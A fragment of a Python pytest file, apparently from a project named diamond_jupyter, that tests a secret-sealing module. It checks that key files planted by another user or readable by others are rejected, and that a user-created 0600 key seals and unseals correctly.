    if planted_by_other:
        real = os.getuid()
        monkeypatch.setattr(os, "getuid", lambda: real + 1)
    with pytest.raises(SealError, match="another user" if planted_by_other else
                       r"can be read by others \(mode 0644\)"):
        Sealer(store).seal("WANDB_API_KEY=abc")


def test_a_seal_key_the_user_made_still_seals_and_opens(tmp_path, monkeypatch):
    """(guard) The key made on first use (0600, the user's) works as before."""
    from diamond_jupyter.store.seal import KEY_ENV, Sealer, key_file_for

    monkeypatch.delenv(KEY_ENV, raising=False)
    store = tmp_path / "store.sqlite"
    sealed = Sealer(store).seal("secret")
    assert key_file_for(store).stat().st_mode & 0o777 == 0o600
    assert Sealer(store).unseal(sealed) == "secret"
